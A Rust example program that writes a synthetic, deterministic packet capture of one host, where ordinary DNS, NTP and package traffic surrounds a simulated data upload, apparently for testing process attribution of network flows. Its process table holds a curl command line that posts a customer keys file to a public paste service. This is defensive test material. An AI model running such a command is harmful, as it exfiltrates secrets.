//! Writes the example capture: three minutes of one host on which a script
//! uploads what it should not, between traffic that any working day has.
//!
//! ```text
//! cargo run --example make_capture -- examples
//! ```
//!
//! `upload.pcapng` carries the owner of each packet in its comments, as
//! ptcpdump writes them; `upload.pcap` has the same packets without owners,
//! which `owners.jsonl` gives. Same input, same bytes out: nothing here is
//! random, and the addresses are those of the documentation (RFC 5737).

use std::error::Error;
use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::net::Ipv4Addr;
use std::path::PathBuf;

use etherparse::PacketBuilder;

const HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
/// 2026-05-04T02:00:00Z in nanoseconds.
const START: u64 = 1_777_860_000 * SECOND;
const SECOND: u64 = 1_000_000_000;
const MILLISECOND: u64 = 1_000_000;
/// What of each frame is kept: every header, and the name in a ClientHello.
const SNAPLEN: usize = 192;
/// What the host hands to its network card at once.
const SEGMENT: usize = 65_160;

fn main() -> Result<(), Box<dyn Error>> {
    let directory = std::env::args_os().nth(1).map_or_else(|| PathBuf::from("examples"), PathBuf::from);
    let mut capture = Capture::default();

    let resolver = process(812, "/usr/lib/systemd/systemd-resolved", "/usr/lib/systemd/systemd-resolved", 992);
    let apt = process(2210, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", 42);
    let clock = process(640, "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", 993);
    let script = process(4121, "/usr/bin/python3.11", "python3 /tmp/sync.py --all /srv/customers", 1000);
    let curl = process(4188, "/usr/bin/curl", "curl -sF file=@/srv/customers/keys.txt https://paste.rs/", 1000);

    capture.look_up(SECOND, &resolver, "deb.example.org", Ipv4Addr::new(198, 51, 100, 20));
    capture.download(2 * SECOND, &apt, 41_002, Ipv4Addr::new(198, 51, 100, 20), 80, 12_000_000);
    for minute in 0..3 {
        capture.ask_time(minute * 60 * SECOND, &clock, Ipv4Addr::new(198, 51, 100, 123));
    }
    capture.look_up(30 * SECOND, &resolver, "files.example.net", Ipv4Addr::new(203, 0, 113, 7));
    capture.upload(31 * SECOND, &script, 51_544, Ipv4Addr::new(203, 0, 113, 7), "files.example.net", 62_000_000);
    capture.look_up(100 * SECOND, &resolver, "paste.rs", Ipv4Addr::new(203, 0, 113, 80));
    capture.upload(101 * SECOND, &curl, 51_610, Ipv4Addr::new(203, 0, 113, 80), "paste.rs", 390_000);

    capture.packets.sort_by_key(|packet| packet.time);
    fs::write(directory.join("upload.pcapng"), capture.pcapng())?;
    fs::write(directory.join("upload.pcap"), capture.pcap())?;
    fs::write(directory.join("owners.jsonl"), capture.owners())?;
    writeln!(std::io::stdout(), "{} packets", capture.packets.len())?;
    Ok(())
}

/// Who sends.
#[derive(Clone)]
struct Process {
    pid: u32,
    exe: &'static str,
    cmdline: &'static str,
    uid: u32,
}

fn process(pid: u32, exe: &'static str, cmdline: &'static str, uid: u32) -> Process {
    Process { pid, exe, cmdline, uid }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Way {
    Out,
    In,
}

struct Packet {
    time: u64,
    way: Way,
    bytes: Vec<u8>,
    /// The length on the wire.
    length: usize,
    process: Process,
}

#[derive(Default)]
struct Capture {
    packets: Vec<Packet>,
    flows: Vec<(&'static str, u16, Ipv4Addr, u16, Process)>,
}

impl Capture {
    /// A DNS question and its answer.
    fn look_up(&mut self, at: u64, process: &Process, name: &str, answer: Ipv4Addr) {
        let port = 33_000 + u16::try_from(self.flows.len()).unwrap_or_default();
        let mut question = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in name.split('.') {
            question.push(u8::try_from(label.len()).unwrap_or_default());
            question.extend(label.as_bytes());
        }
        question.extend([0, 0, 1, 0, 1]);
        let mut reply = question.clone();
        reply[2..4].copy_from_slice(&[0x81, 0x80]);
        reply[7] = 1;
        reply.extend([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4]);
        reply.extend(answer.octets());
        self.udp(at, Way::Out, port, RESOLVER, 53, &question, process);
        self.udp(at + 9 * MILLISECOND, Way::In, port, RESOLVER, 53, &reply, process);
        self.flows.push(("udp", port, RESOLVER, 53, process.clone()));
    }

    fn ask_time(&mut self, at: u64, process: &Process, server: Ipv4Addr) {
        self.udp(at, Way::Out, 123, server, 123, &[0x23; 48], process);
        self.udp(at + 20 * MILLISECOND, Way::In, 123, server, 123, &[0x24; 48], process);
        if at == 0 {
            self.flows.push(("udp", 123, server, 123, process.clone()));
        }
    }

    /// A TLS connection that sends `total` bytes to the named server, about 1 MB/s.
    fn upload(&mut self, at: u64, process: &Process, port: u16, server: Ipv4Addr, name: &str, total: usize) {
        let mut time = self.open(at, process, port, server, 443);
        let hello = client_hello(name);
        self.tcp(time, Way::Out, port, server, 443, &hello, hello.len(), process);
        time += 12 * MILLISECOND;
        self.tcp(time, Way::In, port, server, 443, &[0x16, 3, 3], 3_900, process);
        let mut left = total;
        while left > 0 {
            let segment = left.min(SEGMENT);
            time += 48 * MILLISECOND;
            self.tcp(time, Way::Out, port, server, 443, &[0x17, 3, 3], segment, process);
            left -= segment;
            if (left / SEGMENT).is_multiple_of(4) {
                self.tcp(time + 8 * MILLISECOND, Way::In, port, server, 443, &[], 0, process);
            }
        }
    }

    /// An HTTP download of `total` bytes.
    fn download(&mut self, at: u64, process: &Process, port: u16, server: Ipv4Addr, remote: u16, total: usize) {
        let mut time = self.open(at, process, port, server, remote);
        let request = b"GET /pool/main/l/linux.deb HTTP/1.1\r\nHost: deb.example.org\r\n\r\n";
        self.tcp(time, Way::Out, port, server, remote, request, request.len(), process);
        let mut left = total;
        while left > 0 {
            let segment = left.min(SEGMENT);
            time += 40 * MILLISECOND;
            self.tcp(time, Way::In, port, server, remote, b"data", segment, process);
            left -= segment;
            if (left / SEGMENT).is_multiple_of(4) {
                self.tcp(time + MILLISECOND, Way::Out, port, server, remote, &[], 0, process);
            }
        }
    }

    /// The three packets that open a connection; the time after them.
    fn open(&mut self, at: u64, process: &Process, port: u16, server: Ipv4Addr, remote: u16) -> u64 {
        self.flows.push(("tcp", port, server, remote, process.clone()));
        let syn = |from: Ipv4Addr, to: Ipv4Addr, ports: (u16, u16)| {
            ethernet().ipv4(from.octets(), to.octets(), 64).tcp(ports.0, ports.1, 1, 64_240).syn()
        };
        self.push(at, Way::Out, write(syn(HOST, server, (port, remote)), &[]), SNAPLEN, process);
        let answer = syn(server, HOST, (remote, port)).ack(2);
        self.push(at + 11 * MILLISECOND, Way::In, write(answer, &[]), SNAPLEN, process);
        self.tcp(at + 12 * MILLISECOND, Way::Out, port, server, remote, &[], 0, process);
        at + 13 * MILLISECOND
    }

    /// One TCP packet with `length` bytes of payload, of which `kept` was captured.
    #[expect(clippy::too_many_arguments, reason = "the fields of a packet")]
    fn tcp(
        &mut self,
        time: u64,
        way: Way,
        port: u16,
        server: Ipv4Addr,
        remote: u16,
        kept: &[u8],
        length: usize,
        process: &Process,
    ) {
        let (from, to, ports) = match way {
            Way::Out => (HOST, server, (port, remote)),
            Way::In => (server, HOST, (remote, port)),
        };
        let builder = ethernet().ipv4(from.octets(), to.octets(), 64).tcp(ports.0, ports.1, 2, 64_240).ack(2);
        let mut payload = kept.to_vec();
        payload.resize(length, 0);
        let bytes = write(builder, &payload);
        let captured = bytes.len() - length + kept.len();
        self.push(time, way, bytes, captured, process);
    }

    #[expect(clippy::too_many_arguments, reason = "the fields of a packet")]
    fn udp(
        &mut self,
        time: u64,
        way: Way,
        port: u16,
        server: Ipv4Addr,
        remote: u16,
        payload: &[u8],
        process: &Process,
    ) {
        let (from, to, ports) = match way {
            Way::Out => (HOST, server, (port, remote)),
            Way::In => (server, HOST, (remote, port)),
        };
        let builder = ethernet().ipv4(from.octets(), to.octets(), 64).udp(ports.0, ports.1);
        let mut bytes = Vec::with_capacity(builder.size(payload.len()));
        if builder.write(&mut bytes, payload).is_ok() {
            self.push(time, way, bytes, SNAPLEN, process);
        }
    }

    fn push(&mut self, time: u64, way: Way, mut bytes: Vec<u8>, captured: usize, process: &Process) {
        let length = bytes.len();
        bytes.truncate(captured.min(SNAPLEN));
        self.packets.push(Packet { time: START + time, way, bytes, length, process: process.clone() });
    }

    /// Pcapng (draft-ietf-opsawg-pcapng): one section, one interface, one comment a subject.
    fn pcapng(&self) -> Vec<u8> {
        let mut file = Vec::new();
        let mut section = Vec::new();
        section.extend(0x1a2b_3c4d_u32.to_le_bytes());
        section.extend([1, 0, 0, 0]);
        section.extend(u64::MAX.to_le_bytes());
        block(&mut file, 0x0a0d_0d0a, &section);

        let mut interface = vec![1, 0, 0, 0];
        interface.extend(u32::try_from(SNAPLEN).unwrap_or_default().to_le_bytes());
        option(&mut interface, 2, b"eth0");
        option(&mut interface, 9, &[9]); // nanoseconds
        option(&mut interface, 0, &[]);
        block(&mut file, 1, &interface);

        for packet in &self.packets {
            let mut body = vec![0, 0, 0, 0];
            body.extend(u32::try_from(packet.time >> 32).unwrap_or_default().to_le_bytes());
            body.extend((packet.time as u32).to_le_bytes());
            body.extend((packet.bytes.len() as u32).to_le_bytes());
            body.extend((packet.length as u32).to_le_bytes());
            padded(&mut body, &packet.bytes);
            let Process { pid, exe, cmdline, uid } = &packet.process;
            let way: u32 = if packet.way == Way::In { 1 } else { 2 };
            option(&mut body, 2, &way.to_le_bytes());
            option(&mut body, 1, format!("PID: {pid}\nCmd: {exe}\nArgs: {cmdline}").as_bytes());
            option(&mut body, 1, format!("UserId: {uid}").as_bytes());
            option(&mut body, 0, &[]);
            block(&mut file, 6, &body);
        }
        file
    }

    /// Classic pcap with nanoseconds.
    fn pcap(&self) -> Vec<u8> {
        let mut file = Vec::new();
        for word in [0xa1b2_3c4d_u32, 0x0004_0002, 0, 0, SNAPLEN as u32, 1] {
            file.extend(word.to_le_bytes());
        }
        for packet in &self.packets {
            let (seconds, nanoseconds) = (packet.time / SECOND, packet.time % SECOND);
            for word in [seconds as u32, nanoseconds as u32, packet.bytes.len() as u32, packet.length as u32] {
                file.extend(word.to_le_bytes());
            }
            file.extend(&packet.bytes);
        }
        file
    }

    fn owners(&self) -> String {
        let mut lines = String::new();
        for (proto, port, server, remote, process) in &self.flows {
            let cmdline: Vec<String> = process.cmdline.split(' ').map(|word| format!("{word:?}")).collect();
            let _ = writeln!(
                lines,
                "{{\"proto\":\"{proto}\",\"local\":\"{HOST}:{port}\",\"remote\":\"{server}:{remote}\",\"pid\":{},\
                 \"exe\":\"{}\",\"cmdline\":[{}],\"uid\":{}}}",
                process.pid,
                process.exe,
                cmdline.join(","),
                process.uid
            );
        }
        lines
    }
}

fn ethernet() -> etherparse::PacketBuilderStep<etherparse::Ethernet2Header> {
    PacketBuilder::ethernet2([2, 0, 0, 0, 0, 5], [2, 0, 0, 0, 0, 1])
}

fn write(builder: etherparse::PacketBuilderStep<etherparse::TcpHeader>, payload: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(builder.size(payload.len()));
    let written = builder.write(&mut bytes, payload);
    assert!(written.is_ok(), "a segment is larger than an IPv4 packet: {written:?}");
    bytes
}

/// A TLS 1.3 ClientHello that names its server (RFC 8446, section 4.1.2; RFC 6066, section 3).
fn client_hello(name: &str) -> Vec<u8> {
    let name_length = name.len() as u16;
    let mut extension = vec![0, 0];
    extension.extend((name_length + 5).to_be_bytes());
    extension.extend((name_length + 3).to_be_bytes());
    extension.push(0);
    extension.extend(name_length.to_be_bytes());
    extension.extend(name.as_bytes());

    let mut body = vec![3, 3];
    body.extend([0x5a; 32]);
    body.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
    body.extend((extension.len() as u16).to_be_bytes());
    body.extend(&extension);

    let mut record = vec![0x16, 3, 1];
    record.extend((body.len() as u16 + 4).to_be_bytes());
    record.extend([1, 0]);
    record.extend((body.len() as u16).to_be_bytes());
    record.extend(&body);
    record
}

/// One block: type, length, body, length.
fn block(file: &mut Vec<u8>, kind: u32, body: &[u8]) {
    let length = body.len() as u32 + 12;
    file.extend(kind.to_le_bytes());
    file.extend(length.to_le_bytes());
    file.extend(body);
    file.extend(length.to_le_bytes());
}

fn option(body: &mut Vec<u8>, code: u16, value: &[u8]) {
    body.extend(code.to_le_bytes());
    body.extend((value.len() as u16).to_le_bytes());
    padded(body, value);
}

fn padded(body: &mut Vec<u8>, value: &[u8]) {
    body.extend(value);
    body.resize(body.len().next_multiple_of(4), 0);
}
